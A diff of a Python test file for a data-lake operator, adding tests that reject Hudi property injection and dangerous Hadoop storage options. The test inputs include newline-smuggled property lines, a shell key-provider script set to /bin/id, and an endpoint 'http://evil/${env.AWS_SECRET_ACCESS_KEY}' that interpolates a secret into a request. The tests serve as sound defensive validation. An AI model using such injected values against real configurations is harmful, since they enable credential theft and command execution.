@@ -304,11 +304,23 @@ def test_a_single_writer_takes_the_lock_too() -> None:
     assert options["hoodie.write.concurrency.mode"] == "OPTIMISTIC_CONCURRENCY_CONTROL"
 
 
-@given(st.dictionaries(st.from_regex(r"\A[a-z][a-z.]{0,20}\Z"), st.text(max_size=40)))
+ONE_LINE = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\n\r"), max_size=40)
+
+
+@given(st.dictionaries(st.from_regex(r"\Ahoodie[.][a-z.]{1,20}\Z"), ONE_LINE))
 def test_the_properties_file_has_one_line_per_option(options: dict[str, str]) -> None:
     text = hudi_conf.properties(options)
     assert len(text.split("\n")) == len(options) + 1
     assert [line.partition("=")[0] for line in text.split("\n")[:-1]] == sorted(options)
+
+
+@pytest.mark.parametrize(
+    "options", [{"hoodie.a": "x\nhoodie.b=y"}, {"hoodie.a": "x\ry"}, {"hoodie.a=b": "x"}, {"include": "file"}]
+)
+def test_what_would_be_another_option_is_not_written(options: dict[str, str]) -> None:
+    """F132: Hudi's files know no escapes, and `include=` reads another file."""
+    with pytest.raises(ValueError, match="not one line"):
+        hudi_conf.properties(options)
 
 
 # ---- Spark
@@ -645,3 +657,27 @@ def test_every_class_of_names_is_closed_to_prefixes() -> None:
             prefix = name[:cut] + "_"
             if name.startswith(prefix):
                 assert pod_settings.prefix_problem(prefix), prefix
+
+
+@pytest.mark.parametrize(
+    ("name", "value", "said"),
+    [
+        ("fs.s3a.endpoint:x", "y", "not an option name"),
+        ("fs.s3a.endpoint\nx", "y", "not an option name"),
+        ("fs.s3a.impl", "x.Y", "is set by the operator"),
+        ("fs.AbstractFileSystem.s3a.impl", "x.Y", "is set by the operator"),
+        ("fs.s3a.bucket.lake.impl", "x.Y", "is set by the operator"),
+        ("fs.defaultFS", "file:///", "is set by the operator"),
+        ("fs.s3a.secret.key", "y", "names a credential"),
+        ("fs.azure.account.keyprovider.x", "a.ShellDecryptionKeyProvider", "is set by|names a credential"),
+        ("fs.azure.shellkeyprovider.script", "/bin/id", "is set by the operator"),
+        ("fs.s3a.custom.signers", "x:y.Z", "is set by the operator"),
+        ("hadoop.security.credential.provider.path", "x", "must begin with fs."),
+        ("fs.s3a.endpoint", "http://evil/${env.AWS_SECRET_ACCESS_KEY}", "the value contains"),
+    ],
+)
+def test_storage_options_are_asked_again_at_launch(name: str, value: str, said: str) -> None:
+    """F132: whatever the CRD in the cluster has let pass."""
+    with pytest.raises(SpecError, match=rf"spec\.storage\.options\[.*({said})") as refused:
+        table(storage={"options": {name: value}})
+    assert value not in str(refused.value) or len(value) < 4
